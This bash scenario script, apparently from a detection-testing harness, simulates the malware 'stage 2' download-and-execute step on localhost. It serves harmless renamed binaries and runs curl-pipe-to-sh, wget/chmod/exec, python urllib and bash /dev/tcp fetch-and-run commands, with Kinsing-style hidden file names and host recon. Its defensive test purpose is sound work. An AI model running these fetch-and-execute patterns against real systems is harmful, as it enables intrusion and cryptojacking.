#!/usr/bin/env bash
# Family: download_exec — the "stage 2" step of most Linux intrusions and botnets (Kinsing, Mirai
# loaders, cloud cryptojackers): fetch a script or binary from the attacker's web server into a
# writable temp dir, chmod +x it, run it, delete it. `setup` plays the attacker's server
# (python3 -m http.server on 127.0.0.1 serving a dropper script and an ELF payload).
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init download_exec

do_setup() {
    kill_all_pidfiles
    local port
    port=$(free_port 8100 8199)
    echo "$port" >"$W/port"
    mkdir -p "$W/srv" "$W/tmp"
    # Stage-2 dropper script: host recon, then fetch and start the "bot" binary.
    cat >"$W/srv/x.sh" <<EOF
#!/bin/sh
# recon, as droppers do before choosing a payload
id; uname -m; hostname; grep -c ^processor /proc/cpuinfo
cat /etc/os-release 2>/dev/null | head -n 2
D="$W/tmp/.ICE-unix"
mkdir -p "\$D" && cd "\$D"
curl -fsS -o .kdevtmpfsi http://127.0.0.1:$port/kdevtmpfsi || wget -q -O .kdevtmpfsi http://127.0.0.1:$port/kdevtmpfsi
chmod +x .kdevtmpfsi
./.kdevtmpfsi -a
rm -f .kdevtmpfsi
EOF
    # The ELF payload: a renamed copy of a harmless system binary.
    cp /usr/bin/uname "$W/srv/kdevtmpfsi"
    cp /usr/bin/id "$W/srv/bot.x86_64"
    # Bigger blob so the download takes more than one read.
    head -c $((RANDOM % 200000 + 50000)) /dev/urandom >"$W/srv/update.bin"
    start_daemon http timeout 1800 "$PY" -m http.server --bind 127.0.0.1 --directory "$W/srv" "$port"
    wait_port 127.0.0.1 "$port" 10
}

do_run() {
    local port u d
    port=$(cat "$W/port")
    u="http://127.0.0.1:$port"
    d="$W/tmp"
    mkdir -p "$d"
    cd "$d"
    local steps=(curl_pipe_sh wget_chmod_exec curl_chmod_exec python_urllib bash_devtcp)
    mapfile -t steps < <(printf '%s\n' "${steps[@]}" | shuf)
    for s in "${steps[@]}"; do
        log "step $s"
        case $s in
            curl_pipe_sh)
                # curl -fsSL http://host/x.sh | sh
                timeout 10 sh -c "curl -fsSL $u/x.sh | sh" ;;
            wget_chmod_exec)
                # wget -O /tmp/.x http://host/bot; chmod +x; ./bot; rm
                timeout 10 wget -q -O "$d/.bot" "$u/bot.x86_64"
                chmod +x "$d/.bot"
                timeout 5 "$d/.bot"
                rm -f "$d/.bot" ;;
            curl_chmod_exec)
                # cd /tmp; curl -O http://host/kdevtmpfsi; chmod 777; nohup ./kdevtmpfsi &
                timeout 10 curl -fsS -o "$d/kdevtmpfsi" "$u/kdevtmpfsi"
                timeout 10 curl -fsS -o "$d/update.bin" "$u/update.bin"
                chmod 777 "$d/kdevtmpfsi"
                nohup "$d/kdevtmpfsi" -a >"$d/nohup.out" 2>&1 &
                wait $! || true
                rm -f "$d/kdevtmpfsi" "$d/update.bin" "$d/nohup.out" ;;
            python_urllib)
                # python -c 'urllib.request.urlretrieve(...)'; os.chmod; subprocess.call
                timeout 10 "$PY" -c "
import urllib.request, os, subprocess
p = '$d/.pyload'
with urllib.request.urlopen('$u/bot.x86_64', timeout=5) as r, open(p, 'wb') as f:
    f.write(r.read())
os.chmod(p, 0o755)
subprocess.call([p])
os.unlink(p)
" ;;
            bash_devtcp)
                # no curl/wget on the box: raw HTTP over bash /dev/tcp, strip headers, run
                timeout 10 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port
printf 'GET /x.sh HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n' >&3
sed '1,/^\r\$/d' <&3 >'$d/.s'
exec 3>&-
chmod +x '$d/.s'
'$d/.s'
rm -f '$d/.s'" ;;
        esac
        jitter 500
    done
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
